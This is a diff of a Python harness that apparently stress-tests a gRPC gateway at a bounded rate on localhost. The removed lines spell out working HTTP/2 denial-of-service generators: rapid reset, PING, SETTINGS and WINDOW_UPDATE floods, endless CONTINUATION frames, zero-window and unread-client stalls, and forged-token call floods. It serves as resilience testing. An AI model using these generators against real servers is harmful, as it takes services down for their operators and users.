@@ -1,4 +1,4 @@
-"""Clients that abuse HTTP/2, at a bounded rate, for a bounded time."""
+"""Runs attacks on a gateway, at a bounded rate, for a bounded time."""
 
 from __future__ import annotations
 
@@ -8,210 +8,21 @@ import json
 import math
 import sys
 from asyncio import StreamReader, StreamWriter
-from collections.abc import Callable, Iterator, Sequence
+from collections.abc import Sequence
 from contextlib import suppress
-from dataclasses import dataclass, replace
-from itertools import count, islice, repeat
+from dataclasses import replace
+from itertools import islice
 
-from hpack import Encoder, NeverIndexedHeaderTuple
-from hyperframe.frame import (
-    ContinuationFrame,
-    DataFrame,
-    Frame,
-    HeadersFrame,
-    PingFrame,
-    RstStreamFrame,
-    SettingsFrame,
-    WindowUpdateFrame,
-)
+from hyperframe.frame import HeadersFrame, RstStreamFrame
 
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-CANCEL = 8
-STREAMS = 500  # that the gateway allows on a connection
-FIRST_ID = 4_000_000  # of the runs that are asked for
+from faults.attacks import ATTACKS, UNKNOWN_CALLERS, Attack
+
 MOST_SECONDS = 60.0
 TICK_SECONDS = 0.005  # from burst to burst
 AGAIN_SECONDS = 0.02  # until a connection that was closed is opened anew
 MOST_BURST = 1000  # units sent at once, after a pause
 BLOCK = 65_536
 FRAME_HEADER, END_STREAM = 9, 1
-
-Units = Callable[[int], Iterator[bytes]]
-
-
-def _greeting(**settings: int) -> bytes:
-    known = {getattr(SettingsFrame, name): settings[name] for name in settings}
-    return PREFACE + SettingsFrame(settings=known).serialize()
-
-
-def _header(name: str, value: str) -> bytes:
-    """Write one header as a literal, so that it means the same in any place."""
-    literal = NeverIndexedHeaderTuple(name.encode(), value.encode())
-    return bytes(Encoder().encode([literal]))
-
-
-CALL = b"".join(
-    _header(*each)
-    for each in (
-        (":method", "POST"),
-        (":scheme", "http"),
-        (":path", "/healthomics.v1.RunService/GetRun"),
-        (":authority", "localhost"),
-        ("content-type", "application/grpc"),
-        ("te", "trailers"),
-    )
-)
-GARBAGE = CALL + _header("authorization", f"Bearer {'x' * 300}.{'y' * 300}.{'z' * 86}")
-
-
-def _begun(stream: int, headers: bytes = CALL) -> bytes:
-    return HeadersFrame(stream, headers, flags=["END_HEADERS"]).serialize()
-
-
-def _called(stream: int, run_id: int, headers: bytes = CALL) -> bytes:
-    digits = str(run_id).encode()
-    message = b"\x0a%c%b" % (len(digits), digits)
-    body = b"\0" + len(message).to_bytes(4, "big") + message
-    data = DataFrame(stream, body, flags=["END_STREAM"])
-    return _begun(stream, headers) + data.serialize()
-
-
-def _again(frame: Frame) -> Iterator[bytes]:
-    return repeat(frame.serialize())
-
-
-def rapid_resets(_number: int) -> Iterator[bytes]:
-    """Make call after call, and reset each at once."""
-    for at in count():
-        stream = 2 * at + 1
-        reset = RstStreamFrame(stream, CANCEL).serialize()
-        yield _called(stream, FIRST_ID + at) + reset
-
-
-def pings(_number: int) -> Iterator[bytes]:
-    """Ping without end."""
-    return _again(PingFrame(0, b"attacker"))
-
-
-def settings(_number: int) -> Iterator[bytes]:
-    """Change a setting without end; each is to be acknowledged."""
-    table = SettingsFrame.HEADER_TABLE_SIZE
-    return _again(SettingsFrame(settings={table: 4096}))
-
-
-def continuations(_number: int) -> Iterator[bytes]:
-    """Begin one call's headers, and never end them."""
-    yield HeadersFrame(1, CALL).serialize()
-    yield from _again(ContinuationFrame(1, _header("filler", "x" * 200)))
-
-
-def headers_alone(_number: int) -> Iterator[bytes]:
-    """Begin call after call, and send no message to any."""
-    for at in count():
-        yield _begun(2 * at + 1)
-
-
-def empty_data(_number: int) -> Iterator[bytes]:
-    """Begin one call, and send it data of no bytes without end."""
-    yield _begun(1)
-    yield from _again(DataFrame(1, b""))
-
-
-def window_updates(_number: int) -> Iterator[bytes]:
-    """Open the connection's window byte by byte."""
-    return _again(WindowUpdateFrame(0, window_increment=1))
-
-
-def unread_calls(number: int) -> Iterator[bytes]:
-    """Make as many calls as a connection may, each about a run of its own."""
-    for at in range(STREAMS):
-        yield _called(2 * at + 1, FIRST_ID + number * STREAMS + at)
-
-
-def strangers_calls(_number: int) -> Iterator[bytes]:
-    """Make call after call without a token."""
-    return (_called(2 * at + 1, FIRST_ID) for at in count())
-
-
-def forgers_calls(_number: int) -> Iterator[bytes]:
-    """Make call after call with a token of nobody's."""
-    return (_called(2 * at + 1, FIRST_ID, GARBAGE) for at in count())
-
-
-def nothing(_number: int) -> Iterator[bytes]:
-    """Send no frame."""
-    return iter(())
-
-
-@dataclass(frozen=True, slots=True)
-class Attack:
-    """What an attacker sends on each of its connections."""
-
-    title: str
-    unit: str  # what is counted
-    units: Units  # of the connection of a number
-    rate: float = 20_000.0  # units a second, on all connections together
-    connections: int = 4
-    greeting: bytes = _greeting()
-    is_reading: bool = True
-    in_hand: int | None = None  # units that wait for their end on each connection
-
-    @property
-    def asks(self) -> bool:
-        """Whether it waits for answers: how much depends on their size."""
-        return self.units is unread_calls
-
-
-ATTACKS = {
-    "rapid-reset": Attack("rapid reset", "streams", rapid_resets, rate=1000),
-    "ping": Attack("PING flood", "frames", pings),
-    "settings": Attack("SETTINGS flood", "frames", settings),
-    "continuation": Attack("endless CONTINUATION", "frames", continuations),
-    "headers": Attack("HEADERS without DATA", "streams", headers_alone, rate=500),
-    "empty-data": Attack("DATA of no bytes", "frames", empty_data),
-    "window-update": Attack("WINDOW_UPDATE flood", "frames", window_updates),
-    "silent": Attack("silent TCP", "frames", nothing, connections=200, greeting=b""),
-    "preface": Attack(
-        "preface alone", "frames", nothing, connections=200, greeting=PREFACE
-    ),
-    "window-zero": Attack(
-        "a window of no bytes",
-        "streams",
-        unread_calls,
-        rate=1000,
-        connections=1,
-        greeting=_greeting(INITIAL_WINDOW_SIZE=0),
-    ),
-    "unread": Attack(
-        "a client that reads nothing",
-        "streams",
-        unread_calls,
-        rate=1000,
-        connections=1,
-        greeting=_greeting(INITIAL_WINDOW_SIZE=(1 << 31) - 1)
-        + WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65_535).serialize(),
-        is_reading=False,
-    ),
-}
-# As fast as they are answered: what a gateway that knows its callers must bear.
-UNKNOWN_CALLERS = {
-    "no-token": Attack(
-        "calls without a token",
-        "calls",
-        strangers_calls,
-        math.inf,
-        connections=2,
-        in_hand=STREAMS,
-    ),
-    "forged-token": Attack(
-        "calls with a forged token",
-        "calls",
-        forgers_calls,
-        math.inf,
-        connections=2,
-        in_hand=STREAMS,
-    ),
-}
 
 
 class Attacker:
@@ -238,7 +49,12 @@ class Attacker:
     async def _go_on(self, number: int) -> None:
         """Attack on one connection, and on the next one when it is closed."""
         while True:
-            reader, writer = await asyncio.open_connection(self._host, self._port)
+            source = f"127.1.0.{number % self._attack.sources + 1}"
+            reader, writer = await asyncio.open_connection(
+                self._host,
+                self._port,
+                local_addr=(source, 0) if self._attack.sources > 1 else None,
+            )
             self.opened += 1
             if self.opened >= self._attack.connections:
                 self.begun.set()
